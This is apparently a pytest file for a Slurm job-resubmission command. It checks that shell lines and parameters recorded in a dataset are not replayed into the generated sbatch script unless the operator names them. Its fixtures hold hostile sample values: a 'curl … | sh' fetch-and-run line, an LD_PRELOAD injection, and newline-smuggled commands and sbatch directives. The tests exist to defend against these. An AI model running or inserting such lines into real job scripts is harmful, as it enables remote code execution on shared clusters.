"""What a dataset records is data, never a command: a resubmission takes the numbers a submission
recorded, but its site options and shell lines (setup, srun arguments, additional sbatch parameters,
partition, account, ...) from today's configuration, unless the operator names one to reuse; the
sbatch script it renders holds only those. In process: a crafted Slurm submission, the resubmission's
plan and the script submitit would write for it (the real cluster runs one in test_slurm_launcher)."""

from __future__ import annotations

import re
from dataclasses import replace
from pathlib import Path

import pytest

from pipeline.commands.resubmit import batches
from pipeline.data import ledger
from pipeline.launch import slurm
from pipeline.launch.settings import SITE_KEYS
from pipeline.survey import ExecutionStatus
from tests.test_status_local import EP8, MOK, SLURM_SETTINGS

STRANGER = {
    "setup": ["curl -s https://example.org/x | sh"],
    "srun_args": ["--export=ALL,LD_PRELOAD=/tmp/x.so"],
    "additional_parameters": {"mail-user": "stranger@example.org"},
    "account": "strangers-account",
    "comment": "theirs",
}


def failed(overrides: list[str], recorded: dict[str, object]) -> ExecutionStatus:
    settings = {**replace(SLURM_SETTINGS, timeout_min=7).to_json(), **recorded}
    record = ledger.Submitted(
        MOK, 1, "7_0", overrides, "slurm", "local-slurm", f"logs/{MOK}/attempt-1", settings
    )
    return ExecutionStatus(MOK, "failed", 1, "7_0", "", None, record)


def script(tmp_path: Path, batch) -> str:
    """The sbatch script submitit writes for the batch's job."""
    executor = slurm._executor(batch.settings, tmp_path / "array", 1, 1)
    return executor._make_submission_file_text("python -u -m submitit.core._submit FOLDER", "uid")


OVERRIDES = [f"workload={EP8}", "variant=mok-bf16", "scale=ci", "cluster=local-slurm", "dataset_dir=/x"]


def test_a_resubmission_runs_todays_site_settings_and_never_the_datasets_shell_lines(tmp_path):
    (batch,) = batches(tmp_path, [failed(OVERRIDES, STRANGER)], {})
    settings = batch.settings
    assert settings.timeout_min == 7  # a number the submission recorded
    assert (settings.setup, settings.srun_args, settings.additional_parameters) == (None, None, {})
    assert (settings.partition, settings.account, settings.comment) == ("bench", None, None)  # today's preset
    assert batch.unused == {**STRANGER, "partition": "debug"} and batch.reused == {}  # what it recorded
    text = script(tmp_path, batch)
    assert "#SBATCH --partition=bench" in text and "#SBATCH --time=7" in text
    for word in ("curl", "LD_PRELOAD", "stranger", "theirs"):
        assert word not in text, text

    (named,) = batches(tmp_path, [failed(OVERRIDES, STRANGER)], {}, ("setup", "additional_parameters"))
    assert named.settings.setup == tuple(STRANGER["setup"]) and named.reused == {
        "setup": STRANGER["setup"],
        "additional_parameters": STRANGER["additional_parameters"],
    }
    text = script(tmp_path, named)
    assert "curl -s https://example.org/x | sh" in text and "#SBATCH --mail-user=stranger@example.org" in text
    assert "LD_PRELOAD" not in text and "strangers-account" not in text


@pytest.mark.parametrize(
    ("recorded", "says"),
    [
        ({"setup": ["echo a\ncurl x | sh"]}, "setup holds a control character (echo a\\x0acurl x | sh)"),
        ({"comment": "a\n#SBATCH --wrap=x"}, "comment holds a control character"),
    ],
)
def test_a_recorded_line_break_is_refused_where_it_is_reused(tmp_path, recorded, says):
    """A newline in a setting would start a line of the script: a reused one is refused in one line;
    one that is not reused is never read."""
    (batch,) = batches(tmp_path, [failed(OVERRIDES, recorded)], {})
    assert "\n" not in script(tmp_path, batch).split("#SBATCH --")[-1].split("\n", 1)[0]
    with pytest.raises(ValueError, match=re.escape(says)):
        batches(tmp_path, [failed(OVERRIDES, recorded)], {}, tuple(recorded))


@pytest.mark.parametrize(
    "override",
    ["hydra.launcher.setup=[curl x | sh]", "+hydra.launcher.srun_args=[x]", "hydra/launcher=slurm_evil"],
)
def test_a_recorded_override_of_hydras_own_configuration_is_refused(tmp_path, override):
    if override.startswith("hydra/launcher="):  # set by resubmission itself: dropped, never composed
        (batch,) = batches(tmp_path, [failed([*OVERRIDES, override], {})], {})
        assert batch.settings.backend == "slurm"
        return
    with pytest.raises(ValueError, match="which sets Hydra's own configuration; a resubmission takes none"):
        batches(tmp_path, [failed([*OVERRIDES, override], {})], {})


def test_every_key_that_reaches_the_script_as_text_is_a_site_key():
    texts = {"partition", "account", "qos", "constraint", "exclude", "gres", "mem_per_gpu", "name", "comment"}
    assert set(SITE_KEYS) == texts | {"setup", "srun_args", "additional_parameters"}
